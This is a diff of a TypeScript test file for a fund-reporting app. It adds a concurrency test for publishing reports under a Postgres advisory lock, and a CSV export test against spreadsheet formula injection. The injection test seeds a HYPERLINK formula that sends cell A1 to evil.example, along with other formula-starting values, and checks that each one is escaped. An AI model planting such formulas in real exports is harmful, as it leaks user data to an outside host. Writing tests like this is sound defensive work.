@@ -258,18 +258,39 @@ describe("periods without a report", () => {
 });
 
 describe("publishing", () => {
-  it("publishes a period once, even when asked four times at once, with one notice for the followers", async () => {
+  it("publishes a period once, even when asked four times at once (one computes, the others hear 'not ready' or get it), with one notice", async () => {
     const race = await t.db.fund.create({
       data: { slug: "report-race-fund", nameZh: "并发基金", nameEn: "Race fund", createdAt: china("2026-08-01 09:00") },
     });
-    const fresh = await Promise.all([0, 1, 2, 3].map(() => publishReport(race.id, "2026-08", NOW)));
-    expect(fresh.every((r) => r !== null)).toBe(true);
+    const asked = await Promise.all([0, 1, 2, 3].map(() => publishReport(race.id, "2026-08", NOW)));
+    // Whoever was turned away while another computed gets null ("being prepared"); asking again gets the one report.
+    expect(asked.some((r) => r !== null)).toBe(true);
+    const fresh = [...asked.filter((r) => r !== null), await publishReport(race.id, "2026-08", NOW)];
     expect(new Set(fresh.map((r) => r!.id)).size).toBe(1);
     expect(await t.db.fundReport.count({ where: { fundId: race.id, periodKey: "2026-08" } })).toBe(1);
     const { rows } = await t.sql("SELECT count(*)::int AS n FROM fund_notice WHERE kind = 'report_published' AND report_id = $1", [
       fresh[0]!.id,
     ]);
     expect(rows[0].n).toBe(1);
+  });
+
+  it("turns a visitor away at once while another computes the same period, computing nothing", async () => {
+    const busy = await t.db.fund.create({
+      data: { slug: "report-busy-fund", nameZh: "忙碌基金", nameEn: "Busy fund", createdAt: china("2026-08-01 09:00") },
+    });
+    const other = new pg.Client(t.ownerConnection);
+    await other.connect();
+    try {
+      // What publishReport takes while it computes (fund, period, key), held here as by another request.
+      await other.query("SELECT pg_advisory_lock(7001131, hashtext($1))", [`${busy.id}:month:2026-08`]);
+      expect(await publishReport(busy.id, "2026-08", NOW)).toBeNull();
+      expect(await t.db.fundReport.count({ where: { fundId: busy.id } })).toBe(0);
+      // Another period of the same fund is not held back.
+      expect(await publishReport(busy.id, "2026-09", NOW)).not.toBeNull();
+    } finally {
+      await other.end();
+    }
+    expect((await publishReport(busy.id, "2026-08", NOW))?.periodKey).toBe("2026-08");
   });
 
   it("publishDueReports publishes what is due for every fund, once, and steps aside while another instance holds its lock", async () => {
@@ -320,5 +341,23 @@ describe("the CSV", () => {
     expect(lines).toContain("objection_answer,灵山荔乡 · 荔枝冷链,报价来自三家比价，取最低。,dismissed,,,");
     expect(lines.some((l) => l.startsWith("checkpoint,root_hash,") && /[0-9a-f]{64}/.test(l))).toBe(true);
     expect(csv).not.toMatch(/邓先生|13800000000/);
+  });
+
+  it("never lets a typed text run as a spreadsheet formula (an objection is written by anyone); amounts stay numbers", async () => {
+    const fund = await t.db.fund.findUniqueOrThrow({ where: { id: fundId } });
+    const report = (await loadReport(fundId, "2026-09"))!;
+    const [first] = report.figures.objections;
+    report.figures.objections = [
+      { ...first, text: '=HYPERLINK("https://evil.example/?"&A1,"详情")', answer: "@SUM(1+1)" },
+      { ...first, village: "+村", project: "-项目", text: "-2+3" },
+    ];
+    const lines = reportCsv(fund, report).slice(1).trim().split("\n");
+    expect(lines).toContain(`objection,灵山荔乡 · 荔枝冷链,"'=HYPERLINK(""https://evil.example/?""&A1,""详情"")",dismissed,,,`);
+    expect(lines).toContain("objection_answer,灵山荔乡 · 荔枝冷链,'@SUM(1+1),dismissed,,,");
+    expect(lines).toContain("objection,'+村 · -项目,'-2+3,dismissed,,,");
+    // No cell of the whole file starts a formula.
+    const cells = lines.flatMap((line) => line.split(","));
+    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
+    expect(lines).toContain("opening_balance,total,,,7.95,795,CNY");
   });
 });
